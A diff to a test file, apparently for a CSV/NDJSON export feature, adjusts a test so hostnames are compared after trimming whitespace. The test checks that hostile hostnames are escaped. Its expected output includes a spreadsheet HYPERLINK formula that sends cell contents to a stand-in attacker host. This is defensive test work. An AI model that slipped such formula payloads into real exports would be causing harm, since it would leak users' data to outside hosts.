@@ -96,7 +96,7 @@ describe('a file', () => {
     expect(line).toMatchObject({ failingTests: 'UPTIME_60_MIN | THREE_HEARTBEATS', assignee: '' });
   });
 
-  it('cannot be made to reckon by what a machine calls itself, and NDJSON has its very words', async () => {
+  it('cannot be made to reckon by what a machine calls itself, and NDJSON has it as it is', async () => {
     const filter = { within: [PRACTICE] };
     const lines = await csv({ filter });
     expect(lines).toHaveLength(HOSTILE.length);
@@ -106,7 +106,8 @@ describe('a file', () => {
       '\'=HYPERLINK("http://evil.example/"&A1,"open me")',
     );
     const told = (await ndjson({ filter })).slice(0, -1).map(({ hostname }) => hostname as string);
-    expect(told.sort()).toEqual([...HOSTILE].sort());
+    // Blanks around a name are not part of it.
+    expect(told.sort()).toEqual(HOSTILE.map((name) => name.trim()).sort());
   });
 
   it('is also given by address, with a mark for Excel, under a name with the moment', async () => {
